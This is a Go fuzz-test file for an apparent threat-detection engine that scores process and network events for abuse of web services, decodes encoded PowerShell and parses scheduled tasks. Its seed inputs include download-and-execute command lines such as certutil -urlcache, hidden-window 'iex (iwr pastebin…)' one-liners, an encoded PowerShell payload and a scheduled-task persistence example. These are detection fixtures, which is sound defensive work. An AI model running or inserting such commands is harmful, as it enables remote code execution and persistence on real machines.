package detect

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/t1102app/t1102/src/internal/fold"
)

func FuzzScanHosts(f *testing.F) {
	f.Add([]byte(`certutil -urlcache -f https://raw.githubusercontent.com/a/b.ps1 c.ps1`))
	f.Add([]byte(`iwr raw.githubusercontent.com/x -Uri github.com:443/y C:\x\github.com\z`))
	f.Fuzz(func(t *testing.T, text []byte) {
		ScanHosts(text, func(r HostRef) bool {
			if r.Start < 0 || r.End > len(text) || r.Start >= r.End {
				t.Fatalf("bad bounds %d..%d of %d", r.Start, r.End, len(text))
			}
			for _, c := range r.Host {
				if !isHostByte(c) {
					t.Fatalf("host %q has %q", r.Host, c)
				}
			}
			return true
		})
		NormalizeHost(nil, text)
	})
}

func FuzzFindEncoded(f *testing.F) {
	f.Add([]byte("powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGcAaQB0AGgAdQBiAC4AYwBvAG0ALwB4ACkA"), true)
	f.Add([]byte("node -e x \u2013ec \u00a0 ^-^e"), false)
	f.Fuzz(func(t *testing.T, cmd []byte, ps bool) {
		enc, ok := FindEncoded(cmd, ps)
		if !ok && (enc.How != "" || enc.Decoded != nil) {
			t.Fatalf("nothing found but %+v", enc)
		}
		if enc.Decoded != nil && !utf8.Valid(enc.Decoded) {
			t.Fatalf("decoded text is not UTF-8")
		}
	})
}

// FuzzScore: any event scores without panicking, within the rules' bounds.
func FuzzScore(f *testing.F) {
	s := testDetector(f).NewScorer()
	f.Add("1", `C:\x\powershell.exe`, "powershell -e SQBFAFgA https://pastebin.com/raw/x", `C:\x\WINWORD.EXE`, "", "", "PowerShell.EXE")
	f.Add("22", `/usr/bin/curl`, "", "", "", "raw.githubusercontent.com.", "")
	f.Add("3", `C:\x\git-remote-https.exe`, "", "", "github.com", "", "")
	f.Fuzz(func(t *testing.T, code, image, cmd, parent, dest, query, ofn string) {
		r := s.Score(&Event{EventCode: []byte(code), Image: []byte(image), CommandLine: []byte(cmd), ParentImage: []byte(parent),
			DestinationHostname: []byte(dest), QueryName: []byte(query), OriginalFileName: []byte(ofn)})
		if r.RiskScore < 0 || r.RiskScore > 100 {
			t.Fatalf("risk %d", r.RiskScore)
		}
		if r.Pass && (r.Category == "" || r.Allowlisted) {
			t.Fatalf("pass without a service or while allowlisted: %+v", r)
		}
		if r.SuspicionScore != B2I(r.Suspicious)+B2I(r.Encoded)+B2I(r.OfficeParent)+B2I(r.ServiceSpawn) {
			t.Fatalf("suspicion_score %d", r.SuspicionScore)
		}
	})
}

// FuzzCatalogFile: a web-service lookup either loads or fails with the
// file's name and a line; every row it skips is named by its line.
func FuzzCatalogFile(f *testing.F) {
	f.Add("domain,category,tags\ngithub.com,github,C&C;Download\n*.x.com.,twitter,\n")
	f.Add("domain,category\n\"unterminated\n")
	f.Fuzz(func(t *testing.T, content string) {
		path := filepath.Join(t.TempDir(), WebServicesFile)
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		c := &Catalog{}
		err := c.loadServices(path)
		requirePlaced(t, c.Warnings)
		if err != nil {
			if _, ok := err.(*CatalogError); !ok {
				t.Fatalf("error without file and line: %v", err)
			}
			return
		}
		for _, s := range c.Services {
			if string(NormalizeHost(nil, []byte(s.Domain))) != s.Domain {
				t.Fatalf("loaded a domain that does not normalise to itself: %q", s.Domain)
			}
		}
	})
}

// requirePlaced fails unless every warning names its file and a line and
// wraps ErrSkipped.
func requirePlaced(t *testing.T, warnings []*CatalogError) {
	t.Helper()
	for _, w := range warnings {
		if w.File == "" || w.Line <= 0 || !errors.Is(w, ErrSkipped) {
			t.Fatalf("warning without file, line or ErrSkipped: %v", w)
		}
	}
}

// FuzzGlob: a compiled pattern matches exactly what the same pattern as an
// anchored, case-insensitive regular expression ('*' as .*) matches.
func FuzzGlob(f *testing.F) {
	f.Add(`C:\Program Files\*\ruby.exe`, `c:\program files\puppet labs\puppet\bin\RUBY.EXE`)
	f.Add(`*\npm-cli.js*`, `node "C:\x\npm-cli.js" install`)
	f.Add(`a*a`, `a`)
	f.Add(`**x*`, `yxy`)
	f.Fuzz(func(t *testing.T, pattern, value string) {
		g, err := CompileGlob(pattern)
		if err != nil {
			if strings.Trim(pattern, "*") != "" {
				t.Fatalf("refused %q: %v", pattern, err)
			}
			return
		}
		got := g.Match([]byte(value))
		if !utf8.ValidString(pattern) || !utf8.ValidString(value) {
			return // the oracle's regexp cannot take the bytes; Match did not panic
		}
		var re strings.Builder
		re.WriteString(`(?s)^`)
		for i, part := range strings.Split(pattern, "*") {
			if i > 0 {
				re.WriteString(".*")
			}
			re.WriteString(regexp.QuoteMeta(asciiLower(part)))
		}
		re.WriteString(`$`)
		want := regexp.MustCompile(re.String()).MatchString(asciiLower(value))
		if got != want {
			t.Fatalf("%q on %q: %v, the regular expression says %v", pattern, value, got, want)
		}
	})
}

// FuzzRuleFiles: an allowlist or context lookup either loads, every rule
// with what makes it safe, or fails with the file's name and a line; every
// row it skips is named by its line.
func FuzzRuleFiles(f *testing.F) {
	f.Add("host,user,process,path,pe_name,domain\n,,git.exe,*\\Git\\*,,github.com;gitlab.com\n", true)
	f.Add("kind,process,path,parent_path,command_line,url,user\nit_agent,ruby.exe,C:\\P\\*\\ruby.exe,,,,\n", false)
	f.Add("kind,process,path,parent_path,command_line,url,user\nx,,,,,**,\n", false)
	f.Fuzz(func(t *testing.T, content string, allow bool) {
		dir := t.TempDir()
		name := ContextFile
		if allow {
			name = AllowlistFile
		}
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		c := &Catalog{}
		defer func() { requirePlaced(t, c.Warnings) }()
		if allow {
			err := c.loadAllow(path)
			if err != nil {
				if _, ok := err.(*CatalogError); !ok {
					t.Fatalf("error without file and line: %v", err)
				}
				return
			}
			for _, r := range c.Allow {
				if len(r.Domains) == 0 {
					t.Fatalf("a rule that allows every service loaded: %+v", r)
				}
			}
			return
		}
		err := c.loadContext(path)
		if err != nil {
			if _, ok := err.(*CatalogError); !ok {
				t.Fatalf("error without file and line: %v", err)
			}
			return
		}
		for _, r := range c.Context {
			if r.Path == nil && r.ParentPath == nil && r.Command == nil && r.URL == nil {
				t.Fatalf("a rule by file name only loaded: %+v", r)
			}
		}
	})
}

// FuzzRetrieval: the finders read any text without panicking, ignore ASCII
// case (what they say of a text they say of it in upper case), and a temp
// place they name is in the text.
func FuzzRetrieval(f *testing.F) {
	f.Add([]byte(`powershell -w h -c "iex (iwr https://pastebin.com/raw/x) > $env:TEMP\x"`), true)
	f.Add([]byte(`python -c "exec(urlopen('x').read())"`), false)
	f.Add([]byte(`curl -s https://x/y | sha256sum`), false)
	f.Fuzz(func(t *testing.T, text []byte, ps bool) {
		upper := bytes.ToUpper(text)
		if !utf8.Valid(text) || !bytes.Equal(bytes.ToLower(upper), fold.AppendASCIILower(nil, text)) {
			upper = text // only ASCII case is ignored: keep the property to texts where ToUpper is ASCII's
		}
		if a, b := DownloadExecute(text, ps), DownloadExecute(upper, ps); a != b {
			t.Fatalf("%q says %q, in upper case %q", text, a, b)
		}
		if a, b := HiddenWindow(text, ps), HiddenWindow(upper, ps); a != b {
			t.Fatalf("%q hidden %v, in upper case %v", text, a, b)
		}
		if p := TempPlace(text); p != "" && !fold.Contains(text, p) {
			t.Fatalf("place %q not in the text", p)
		}
	})
}

// FuzzParseTaskXML: any TaskContent value gives a task with an action or
// an error wrapping ErrTask, never a panic.
func FuzzParseTaskXML(f *testing.F) {
	f.Add([]byte(taskXMLFor(`CORP\jdoe`, `\Updater`, hourly, "true", "powershell.exe", `-c "iex(iwr https://pastebin.com/raw/a)"`)))
	f.Add([]byte(`&lt;Task&gt;&lt;Actions&gt;&lt;Exec&gt;&lt;Command&gt;x&lt;/Command&gt;&lt;/Exec&gt;&lt;/Actions&gt;&lt;/Task&gt;`))
	f.Add([]byte(`<Task><Triggers><TimeTrigger><Repetition><Interval>P1DT0.5H</Interval></Repetition></TimeTrigger></Triggers></Task>`))
	f.Fuzz(func(t *testing.T, content []byte) {
		task, err := ParseTaskXML(content)
		if err != nil {
			if !errors.Is(err, ErrTask) {
				t.Fatalf("error does not wrap ErrTask: %v", err)
			}
			return
		}
		if task.Command == "" || task.Every < 0 {
			t.Fatalf("task without an action or with a negative interval: %+v", task)
		}
	})
}

// FuzzParseSchtasks: a creation always names its action.
func FuzzParseSchtasks(f *testing.F) {
	f.Add([]byte(`schtasks /create /tn "\x" /tr "\"C:\a b\c.exe\" -x" /sc minute /mo 5 /ri 3`))
	f.Add([]byte(`schtasks -create -tr \\\"x -sc hourly -mo -1`))
	f.Fuzz(func(t *testing.T, cmd []byte) {
		task, ok := ParseSchtasks(cmd)
		if ok && (task.Command == "" || task.Every < 0) {
			t.Fatalf("%+v", task)
		}
		if !ok && task != (Task{}) {
			t.Fatalf("no task but %+v", task)
		}
	})
}
